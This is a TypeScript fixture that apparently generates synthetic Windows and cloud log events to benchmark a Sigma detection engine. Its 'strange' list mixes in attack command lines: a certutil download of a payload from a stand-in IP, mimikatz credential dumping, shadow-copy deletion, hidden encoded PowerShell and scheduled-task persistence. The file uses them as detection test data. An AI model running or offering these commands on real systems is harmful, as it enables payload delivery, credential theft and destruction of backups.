// Events for bench/sigma.ts: two lanes are made up from a seed, two are read from the corpora.
import { existsSync, globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

import { parseOwnJson } from '#kit'
import { flattenWindowsEvent, type EventLogsource, type SigmaEvent } from '#detect/sigma'

export const corpora = '../shared/corpora'
export type Lane = { name: string; logsource: EventLogsource; lines: string[] }

/** A small generator of numbers (mulberry32); the same seed makes the same lane anywhere. */
export function seeded(seed: number): (below: number) => number {
  let state = seed >>> 0
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)) ^ mixed
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296) * below)
  }
}

const images = String.raw`C:\Windows\System32\svchost.exe
C:\Windows\System32\tasklist.exe
C:\Windows\explorer.exe
C:\Program Files\Google\Chrome\Application\chrome.exe
C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE
C:\Windows\System32\conhost.exe
C:\Windows\System32\wbem\WmiPrvSE.exe
C:\Program Files\Mozilla Firefox\firefox.exe
C:\Windows\System32\SearchIndexer.exe`.split('\n')
const parents = String.raw`C:\Windows\System32\services.exe
C:\Windows\explorer.exe
C:\Windows\System32\cmd.exe
C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
C:\Windows\System32\winlogon.exe`.split('\n')
const usual = String.raw`C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule
tasklist /svc /fo csv
"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=de --enable-auto-reload
C:\Windows\System32\conhost.exe 0xffffffff -ForceV1
"C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc --channel=1234 -childID 7 -isForBrowser
C:\Windows\System32\wbem\WmiPrvSE.exe -secured -Embedding
C:\Windows\System32\SearchIndexer.exe /Embedding`.split('\n')
const strange = String.raw`powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA
rundll32.exe javascript:\..\mshtml,RunHTMLApplication
certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\Users\Public\p.exe
whoami /priv
mimikatz.exe privilege::debug sekurlsa::logonpasswords exit
cmd.exe /c vssadmin delete shadows /all /quiet
schtasks /create /tn Updater /tr C:\Users\Public\u.exe /sc onlogon /ru SYSTEM`.split('\n')
const users = String.raw`NT AUTHORITY\SYSTEM
CORP\alice
CORP\bob
CORP\svc-backup`.split('\n')
const hosts = ['ws-0042', 'ws-1187', 'srv-file01', 'srv-dc01']

const hex = (random: (below: number) => number, length: number): string =>
  Array.from({ length }, () => '0123456789abcdef'.charAt(random(16))).join('')

function maker(seed: number) {
  const random = seeded(seed)
  const pick = (from: readonly string[]): string => from[random(from.length)] ?? ''
  const command = (strangePercent: number): string => (random(100) < strangePercent ? pick(strange) : pick(usual))
  return { random, pick, command }
}

export function sysmonLane(count: number): Lane {
  const { random, pick, command } = maker(23)
  const lines = Array.from({ length: count }, () => {
    const image = pick(images)
    return JSON.stringify({
      EventID: 1,
      UtcTime: `2026-07-28 11:${10 + random(50)}:${10 + random(50)}.${random(1000)}`,
      ProcessGuid: `${hex(random, 8)}-${hex(random, 4)}-${hex(random, 4)}-${hex(random, 12)}`,
      ProcessId: 1000 + random(64_000),
      Image: image,
      OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
      CommandLine: command(2),
      CurrentDirectory: 'C:\\Windows\\system32\\',
      User: pick(users),
      LogonId: `0x${hex(random, 5)}`,
      IntegrityLevel: pick(['Medium', 'High', 'System']),
      Hashes: `SHA256=${hex(random, 64).toUpperCase()}`,
      ParentProcessId: 1000 + random(64_000),
      ParentImage: pick(parents),
      ParentCommandLine: pick(usual),
      Computer: pick(hosts),
    })
  })
  return { name: 'Sysmon', logsource: { product: 'windows', category: 'process_creation' }, lines }
}

export function rawTextLane(count: number): Lane {
  const { random, pick, command } = maker(11)
  const lines = Array.from({ length: count }, () => {
    const host = pick(hosts)
    const message = [
      `<131>Jul 28 11:${10 + random(50)}:${10 + random(50)} ${host} MSWinEventLog\t1\tSecurity\t${random(1_000_000_000)}`,
      `4688\tMicrosoft-Windows-Security-Auditing\tN/A\tSuccess Audit\t${host}\tProcess Creation\t\tA new process has been created.`,
      `Creator Subject: Security ID: ${pick(users)} Account Name: ${host}$ Account Domain: CORP Logon ID: 0x${hex(random, 3)}`,
      `Target Subject: Security ID: NULL SID Account Name: - Account Domain: - Logon ID: 0x0 Process Information:`,
      `New Process ID: 0x${hex(random, 4)} New Process Name: ${pick(images)} Token Elevation Type: %%1936`,
      `Mandatory Label: Mandatory Label\\Medium Mandatory Level Creator Process ID: 0x${hex(random, 4)}`,
      `Creator Process Name: ${pick(parents)} Process Command Line: ${command(10)}\t${random(10_000_000)}`,
    ].join('   ')
    return JSON.stringify({ message })
  })
  return { name: 'raw text', logsource: { product: 'windows' }, lines }
}

export function cloudTrailLane(): Lane {
  const text = readFileSync(join(corpora, 'cloudtrail/stratus-red-team.ndjson'), 'utf8')
  const lines = text.split('\n').filter((line) => line !== '')
  return { name: 'CloudTrail', logsource: { product: 'aws', service: 'cloudtrail' }, lines }
}

export function regressionLane(): Lane {
  const files = globSync(join(corpora, 'sigma/regression_data/**/*.json')).sort()
  const events = files
    .flatMap((file) => readFileSync(file, 'utf8').split(/\n(?=\{)/))
    .map((text) => parseOwnJson<SigmaEvent>(text))
  const lines = events.map((event) => JSON.stringify(flattenWindowsEvent(event)))
  return { name: 'regression', logsource: { product: 'windows' }, lines }
}

export const haveCorpora = (): boolean => existsSync(corpora)
